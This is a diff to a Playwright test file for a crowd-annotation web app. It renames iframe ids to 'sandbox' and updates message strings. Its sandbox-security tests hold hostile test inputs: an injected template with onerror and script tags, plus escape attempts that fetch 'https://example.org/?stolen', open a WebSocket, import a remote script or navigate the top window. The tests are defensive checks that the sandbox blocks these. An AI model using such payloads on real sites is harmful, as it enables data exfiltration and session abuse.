@@ -20,7 +20,7 @@ def start(address, cleos_page):
     def _start(job):
         cleos_page.goto(f"{address}/work/{job.pk}/")
         cleos_page.get_by_role("button", name="Start working").click()
-        frame = cleos_page.frame_locator("#frame")
+        frame = cleos_page.frame_locator("#sandbox")
         expect(frame.get_by_role("radio").first).to_be_focused()
         return frame
 
@@ -52,9 +52,9 @@ def test_two_objects_by_keyboard_alone(cleos_page, start, pictures):
 
 def test_the_next_task_is_ready_before_it_is_wanted(cleos_page, start, pictures):
     asked = []
-    cleos_page.on("request", lambda request: "/work/frame/" in request.url and asked.append(request.url))
+    cleos_page.on("request", lambda request: "/work/sandbox/" in request.url and asked.append(request.url))
     frame = start(pictures)
-    waiting = cleos_page.frame_locator("#frame-ahead")
+    waiting = cleos_page.frame_locator("#sandbox-next")
     expect(waiting.get_by_role("radio", include_hidden=True).first).to_be_attached()
     ahead = Assignment.objects.get(in_advance=True)
 
@@ -77,15 +77,15 @@ def test_work_begun_survives_a_lost_page_and_another_browser(
     job = give([{"source": "x"}], kind="text", categories=[])
     cleos_page.goto(f"{address}/work/{job.pk}/")
     cleos_page.get_by_role("button", name="Start working").click()
-    cleos_page.frame_locator("#frame").get_by_role("textbox").fill("half a senten")
+    cleos_page.frame_locator("#sandbox").get_by_role("textbox").fill("half a senten")
     with cleos_page.expect_response("**/draft/", timeout=10_000):
         pass
 
     cleos_page.reload()
-    expect(cleos_page.frame_locator("#frame").get_by_role("textbox")).to_have_value("half a senten")
+    expect(cleos_page.frame_locator("#sandbox").get_by_role("textbox")).to_have_value("half a senten")
     cleos_page.evaluate("localStorage.clear()")
     cleos_page.reload()
-    expect(cleos_page.frame_locator("#frame").get_by_role("textbox")).to_have_value("half a senten")
+    expect(cleos_page.frame_locator("#sandbox").get_by_role("textbox")).to_have_value("half a senten")
     cleos_page.keyboard.press("Control+Enter")
 
     expect(cleos_page.get_by_role("heading", name="Well done")).to_be_visible()
@@ -130,11 +130,11 @@ def test_several_by_keyboard(cleos_page, address, request, give, medium):
     job = give([json.loads(line) for line in source], kind="choices", categories=["reed", "heron", "ibis"])
     cleos_page.goto(f"{address}/work/{job.pk}/")
     cleos_page.get_by_role("button", name="Start working").click()
-    frame = cleos_page.frame_locator("#frame")
+    frame = cleos_page.frame_locator("#sandbox")
     expect(frame.get_by_role("checkbox").first).to_be_focused()
 
     cleos_page.keyboard.press("Control+Enter")
-    expect(frame.get_by_role("alert").filter(has_text="Choose what applies first")).to_be_visible()
+    expect(frame.get_by_role("alert").filter(has_text="Choose at least one category")).to_be_visible()
     for key in "4312":
         cleos_page.keyboard.press(key)
     expect(frame.get_by_role("checkbox", name="None of these")).not_to_be_checked()
@@ -168,7 +168,7 @@ def test_answer_survives_a_lost_connection(cleos_page, start, pictures):
     start(pictures)
     cleos_page.route("**/submit/", lambda route: route.abort())
     submit(cleos_page, "2")
-    expect(cleos_page.locator("#notice")).to_contain_text("Your answer is kept")
+    expect(cleos_page.locator("#notice")).to_contain_text("Your answer is saved")
     cleos_page.unroute("**/submit/")
 
     cleos_page.get_by_role("button", name="Send again").click()
@@ -181,7 +181,7 @@ def test_answer_survives_a_reload(cleos_page, start, pictures):
     start(pictures)
     cleos_page.route("**/submit/", lambda route: route.abort())
     submit(cleos_page, "2")
-    expect(cleos_page.locator("#notice")).to_contain_text("Your answer is kept")
+    expect(cleos_page.locator("#notice")).to_contain_text("Your answer is saved")
     cleos_page.unroute("**/submit/")
     cleos_page.on("dialog", lambda dialog: dialog.accept())  # the browser asks whether one really wants to leave
 
@@ -220,7 +220,7 @@ def test_picture_that_does_not_come_can_be_asked_for_again(cleos_page, address, 
     cleos_page.route("**/work/object/**", lambda route: route.abort())
     cleos_page.goto(f"{address}/work/{pictures.pk}/")
     cleos_page.get_by_role("button", name="Start working").click()
-    frame = cleos_page.frame_locator("#frame")
+    frame = cleos_page.frame_locator("#sandbox")
     expect(frame.get_by_text("The picture could not be loaded.")).to_be_visible()
     submit(cleos_page, "1")
     assert values() == []
@@ -238,7 +238,7 @@ def test_returning_is_asked_about(cleos_page, start, pictures):
     cleos_page.keyboard.type("too dark")
     cleos_page.keyboard.press("Enter")
 
-    expect(cleos_page.get_by_text("The task is back with the others.")).to_be_visible()
+    expect(cleos_page.get_by_text("Task returned.")).to_be_visible()
     # The next task may have been taken by now.
     assert Assignment.objects.get(state=AssignmentState.RETURNED).reason == "too dark"
 
@@ -272,7 +272,7 @@ def test_tasks_do_not_pile_up_in_the_history(cleos_page, start, pictures):
 
 HOSTILE = """
 <crowd-form><crowd-classifier categories="['heron', 'ibis']"></crowd-classifier></crowd-form>
-<img src="/static/gtcrowd/mark.svg" onerror="document.title='inline'"><script>document.title="inline"</script>
+<img src="/static/theme/mark.svg" onerror="document.title='inline'"><script>document.title="inline"</script>
 <iframe src="/work/"></iframe><form action="/account/logout/" method="post"><button id="go">go</button></form>
 """
 
@@ -285,7 +285,7 @@ TRIES = {
     "elsewhere": "fetch('https://example.org/?stolen', {mode: 'no-cors'})",
     "beacon": "violates(() => navigator.sendBeacon('/account/logout/', 'x'))",
     "socket": "new Promise((yes, no) => { const s = new WebSocket('wss://example.org'); s.onopen = yes; s.onerror = no; })",
-    "picture": "new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = '/static/gtcrowd/mark.svg'; })",
+    "picture": "new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = '/static/theme/mark.svg'; })",
     "script": "import('https://example.org/x.js')",
     "out": "void (window.top.location = '/account/logout/')",
     "window": "(() => { if (!window.open('/work/')) throw 0; })()",
@@ -315,7 +315,7 @@ def tried(inside):
 def test_hostile_template_reaches_nothing(cleos_page, start, texts, monkeypatch):
     monkeypatch.setattr(choice.Choice, "template", lambda _self, _medium: HOSTILE)
     start(texts)
-    inside = next(one for one in cleos_page.frames if "/work/frame/" in one.url)
+    inside = next(one for one in cleos_page.frames if "/work/sandbox/" in one.url)
 
     assert tried(inside).keys() <= {"peer"}  # its policy lets in no script that could use one
     assert inside.title() == "Task"
@@ -328,7 +328,7 @@ OWN = """<crowd-form><crowd-classifier categories="['heron', 'ibis']"></crowd-cl
 
 def test_scripts_of_a_page_of_ones_own_reach_nothing_either(cleos_page, start, give):
     start(give([{"source": "x"}], template=OWN % "document.title = 'inline'"))
-    inside = next(one for one in cleos_page.frames if "/work/frame/" in one.url)
+    inside = next(one for one in cleos_page.frames if "/work/sandbox/" in one.url)
 
     assert inside.title() == "inline"
     assert tried(inside) == {}
@@ -356,7 +356,7 @@ def test_a_page_that_will_not_rest_can_be_left(cleos_page, address, give, script
     cleos_page.locator('[data-opens="return"]').click(timeout=15_000)
     cleos_page.locator("#return").get_by_role("button", name="Return").click(timeout=15_000)
 
-    expect(cleos_page.get_by_text("The task is back with the others.")).to_be_visible(timeout=15_000)
+    expect(cleos_page.get_by_text("Task returned.")).to_be_visible(timeout=15_000)
 
 
 def test_page_hears_only_its_own_frame(cleos_page, start, texts):
@@ -380,8 +380,8 @@ def test_no_page_scrolls_sideways(cleos_page, address, start, pictures, width):
         assert fits(cleos_page), path
     start(pictures)
     assert fits(cleos_page)
-    assert fits(next(one for one in cleos_page.frames if "/work/frame/" in one.url))
-    expect(cleos_page.frame_locator("#frame").get_by_role("button", name="Submit")).to_be_in_viewport()
+    assert fits(next(one for one in cleos_page.frames if "/work/sandbox/" in one.url))
+    expect(cleos_page.frame_locator("#sandbox").get_by_role("button", name="Submit")).to_be_in_viewport()
 
 
 def test_no_page_of_a_member_scrolls_sideways(browser, address, signed_in, alice, pictures):
